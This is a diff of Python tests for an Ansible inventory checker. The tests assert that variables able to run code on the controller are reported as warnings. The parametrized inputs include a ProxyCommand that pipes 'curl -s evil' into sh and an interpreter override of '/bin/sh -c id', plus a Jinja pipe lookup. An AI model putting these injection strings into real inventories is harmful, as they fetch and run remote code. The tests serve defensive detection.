@@ -113,3 +113,28 @@ def test_docs_inventory_md_is_written_from_the_table() -> None:
     text = (ROOT / "docs" / "inventory.md").read_text()
     assert text == doc_text(), "run: python -m sparkrack.inputs.variables > docs/inventory.md"
     assert all(f"`{v.name}`" in text for v in VARIABLES)
+
+
+@pytest.mark.parametrize(
+    ("name", "value"),
+    [
+        ("ansible_ssh_common_args", "-o ProxyCommand='curl -s evil | sh'"),
+        ("ansible_connection", "local"),
+        ("ansible_python_interpreter", "/bin/sh -c 'id'"),
+        ("ansible_become_exe", "/tmp/x"),
+        ("my_own_variable", "{{ lookup('pipe', 'id') }}"),
+    ],
+)
+def test_what_would_run_on_this_machine_is_reported(name: str, value: str) -> None:
+    found = check_variables(inventory({name: value}))
+    assert [(w.key, w.rule) for w in found.warnings] == [(name, "inventory-runs-code")]
+    assert found.problems == []  # reported, not refused: the owner may have written it
+
+
+def test_ordinary_connection_settings_are_not_reported() -> None:
+    found = check_variables(
+        inventory(
+            {"ansible_user": "ubuntu", "ansible_ssh_common_args": "-o StrictHostKeyChecking=yes"}
+        )
+    )
+    assert found.warnings == []
